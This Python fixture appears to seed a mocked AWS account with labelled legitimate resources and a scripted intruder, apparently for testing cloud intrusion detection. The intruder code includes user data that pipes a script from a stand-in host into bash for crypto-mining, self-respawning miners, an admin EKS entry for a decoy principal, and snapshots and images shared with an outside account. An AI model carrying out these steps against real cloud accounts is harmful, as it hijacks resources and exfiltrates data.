"""EC2, Auto Scaling, containers: the honest fleet, and miners in regions that nobody looks at."""

from __future__ import annotations

from typing import Any

from .account import ACCOUNT, HOME, INTRUDER, MINING, OPT_IN, OPT_IN_MINING, SECOND, Caller, Story, encoded, role
from .identity import SSH_KEY

IMAGE = "ami-12c6146b"  # moto has it in every region
WORLD = [{"CidrIp": "0.0.0.0/0"}]


def network(caller: Caller, region: str) -> str:
    return caller("ec2", region).describe_vpcs(Filters=[{"Name": "is-default", "Values": ["true"]}])["Vpcs"][0]["VpcId"]


def group(caller: Caller, region: str, name: str, ports: tuple[int, ...]) -> str:
    ec2 = caller("ec2", region)
    made = ec2.create_security_group(GroupName=name, Description=name, VpcId=network(caller, region))["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=made, IpPermissions=[
        {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": WORLD} for port in ports])
    return made


def ordinary(story: Story) -> None:
    for region, count in ((HOME, 2), (SECOND, 1), (OPT_IN, 1)):
        made = group(story.operator, region, "web", (443,))
        story.good("security-group", region, "ec2", "DescribeSecurityGroups", made)
        data = f"#!/bin/sh\nexport API_TOKEN={story.simple_secret(f'user-data:{region}')}\n"
        instances = story.operator("ec2", region).run_instances(
            ImageId=IMAGE, MinCount=count, MaxCount=count, InstanceType="t3.medium", SecurityGroupIds=[made], UserData=data,
            IamInstanceProfile={"Name": "app-server"}, MetadataOptions={"HttpTokens": "required", "HttpEndpoint": "enabled"})["Instances"]
        for instance in instances:
            story.good("instance", region, "ec2", "DescribeInstances", instance["InstanceId"])
        story.kept[f"instance:{region}"], story.kept[f"group:{region}"] = instances[0]["InstanceId"], made
    ecs = story.operator("ecs")
    ecs.create_cluster(clusterName="prod")
    definition = ecs.register_task_definition(family="checkout", taskRoleArn=role("tasks"), containerDefinitions=[
        {"name": "web", "image": "checkout:1", "memory": 256, "environment": [{"name": "DB_PASSWORD", "value": story.secret("ecs:DB_PASSWORD")}]}])
    story.good("task-definition", HOME, "ecs", "ListTaskDefinitions", definition["taskDefinition"]["taskDefinitionArn"])


def miners(story: Story, region: str) -> None:
    ec2 = story.intruder("ec2", region)
    wide = group(story.intruder, region, "launch-wizard-1", (22, 3389))
    story.bad("security-group", region, "ec2", "DescribeSecurityGroups", wide)
    key = ec2.import_key_pair(KeyName="mykey", PublicKeyMaterial=SSH_KEY.encode())
    story.bad("key-pair", region, "ec2", "DescribeKeyPairs", key["KeyPairId"])
    wallet = story.simple_secret(f"wallet:{region}")
    data = f"#!/bin/bash\ncurl -s http://pool.intruder.example/x.sh | WALLET={wallet} bash\n"
    for instance in ec2.run_instances(
            ImageId=IMAGE, MinCount=2, MaxCount=2, InstanceType="p3.16xlarge", KeyName="mykey", SecurityGroupIds=[wide],
            UserData=data, MetadataOptions={"HttpTokens": "optional", "HttpEndpoint": "enabled"})["Instances"]:
        ec2.modify_instance_attribute(InstanceId=instance["InstanceId"], DisableApiTermination={"Value": True})
        story.bad("instance", region, "ec2", "DescribeInstances", instance["InstanceId"])
    launch = {"InstanceType": "p3.16xlarge", "ImageId": IMAGE, "UserData": encoded(data)}
    template = ec2.create_launch_template(LaunchTemplateName="worker", LaunchTemplateData=launch)["LaunchTemplate"]["LaunchTemplateId"]
    story.bad("launch-template", region, "ec2", "DescribeLaunchTemplates", template)
    zone = ec2.describe_availability_zones()["AvailabilityZones"][0]["ZoneName"]
    scaling = story.intruder("autoscaling", region)
    scaling.create_auto_scaling_group(AutoScalingGroupName="respawn", MinSize=1, MaxSize=4, AvailabilityZones=[zone],
                                      LaunchTemplate={"LaunchTemplateId": template, "Version": "$Latest"})
    story.bad("auto-scaling-group", region, "autoscaling", "DescribeAutoScalingGroups", "respawn")


def spot(story: Story) -> None:
    ec2 = story.intruder("ec2", MINING)
    request = ec2.request_spot_instances(SpotPrice="9.0", LaunchSpecification={
        "ImageId": IMAGE, "InstanceType": "g4dn.xlarge"})["SpotInstanceRequests"][0]
    story.bad("spot-request", MINING, "ec2", "DescribeSpotInstanceRequests", request["SpotInstanceRequestId"])


def containers(story: Story) -> None:
    ecs = story.intruder("ecs", MINING)
    cluster = ecs.create_cluster(clusterName="burst")["cluster"]["clusterArn"]
    story.bad("ecs-cluster", MINING, "ecs", "ListClusters", cluster)
    definition = ecs.register_task_definition(family="worker", networkMode="awsvpc", requiresCompatibilities=["FARGATE"], cpu="4096", memory="8192", containerDefinitions=[
        {"name": "w", "image": "docker.io/intruder/xm:latest", "environment": [{"name": "WALLET_PASSWORD", "value": story.secret("ecs:WALLET_PASSWORD")}]}])
    arn = definition["taskDefinition"]["taskDefinitionArn"]
    story.bad("task-definition", MINING, "ecs", "ListTaskDefinitions", arn)
    service = ecs.create_service(cluster="burst", serviceName="worker", taskDefinition=arn, desiredCount=50)["service"]["serviceArn"]
    story.bad("ecs-service", MINING, "ecs", "ListServices", service, cluster="burst")
    ecr = story.intruder("ecr", MINING)
    ecr.create_repository(repositoryName="base")
    ecr.set_repository_policy(repositoryName="base", policyText='{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"%s"},"Action":"ecr:*"}]}' % INTRUDER)
    story.bad("repository-policy", MINING, "ecr", "GetRepositoryPolicy", INTRUDER, repositoryName="base")


def clusters(story: Story) -> None:
    subnets = [item["SubnetId"] for item in story.operator("ec2").describe_subnets()["Subnets"]][:2]
    story.operator("eks").create_cluster(name="shop", roleArn=role("app-server"), resourcesVpcConfig={"subnetIds": subnets})
    story.good("eks-cluster", HOME, "eks", "ListClusters", "shop")

    def entry() -> None:
        principal = f"arn:aws:iam::{ACCOUNT}:user/aws-support-svc"
        story.intruder("eks").create_access_entry(clusterName="shop", principalArn=principal, kubernetesGroups=["system:masters"])
        story.bad("access-entry", HOME, "eks", "ListAccessEntries", principal, clusterName="shop")

    story.optional("eks:CreateAccessEntry", entry)


def sharing(story: Story) -> None:
    ec2 = story.intruder("ec2")
    instance = ec2.describe_instances(InstanceIds=[story.kept[f"instance:{HOME}"]])["Reservations"][0]["Instances"][0]
    snapshot = ec2.create_snapshot(VolumeId=instance["BlockDeviceMappings"][0]["Ebs"]["VolumeId"], Description="backup")["SnapshotId"]
    ec2.modify_snapshot_attribute(SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", UserIds=[INTRUDER])
    story.bad("snapshot", HOME, "ec2", "DescribeSnapshots", snapshot, OwnerIds=["self"])
    story.bad("snapshot-sharing", HOME, "ec2", "DescribeSnapshotAttribute", INTRUDER, SnapshotId=snapshot, Attribute="createVolumePermission")
    copy = ec2.create_image(InstanceId=instance["InstanceId"], Name="app-backup", NoReboot=True)["ImageId"]
    ec2.modify_image_attribute(ImageId=copy, LaunchPermission={"Add": [{"UserId": INTRUDER}]})
    story.bad("image", HOME, "ec2", "DescribeImages", copy, Owners=["self"])
    story.bad("image-sharing", HOME, "ec2", "DescribeImageAttribute", INTRUDER, ImageId=copy, Attribute="launchPermission")


def network_changes(story: Story) -> None:
    ec2 = story.intruder("ec2", SECOND)
    rules = ec2.authorize_security_group_ingress(GroupId=story.kept[f"group:{SECOND}"], IpPermissions=[
        {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": WORLD}])["SecurityGroupRules"]
    story.bad("security-group-rule", SECOND, "ec2", "DescribeSecurityGroupRules", rules[0]["SecurityGroupRuleId"])
    other: Any = ec2.create_vpc(CidrBlock="10.66.0.0/16")["Vpc"]["VpcId"]
    story.bad("vpc", SECOND, "ec2", "DescribeVpcs", other)
    peering = ec2.create_vpc_peering_connection(VpcId=network(story.intruder, SECOND), PeerVpcId=other)["VpcPeeringConnection"]["VpcPeeringConnectionId"]
    story.bad("vpc-peering", SECOND, "ec2", "DescribeVpcPeeringConnections", peering)
    address = ec2.allocate_address(Domain="vpc")["AllocationId"]
    story.bad("address", SECOND, "ec2", "DescribeAddresses", address)


def intrusion(story: Story) -> None:
    story.play(lambda told: miners(told, MINING), lambda told: miners(told, OPT_IN_MINING))
    story.play(spot, containers, clusters, sharing, network_changes)
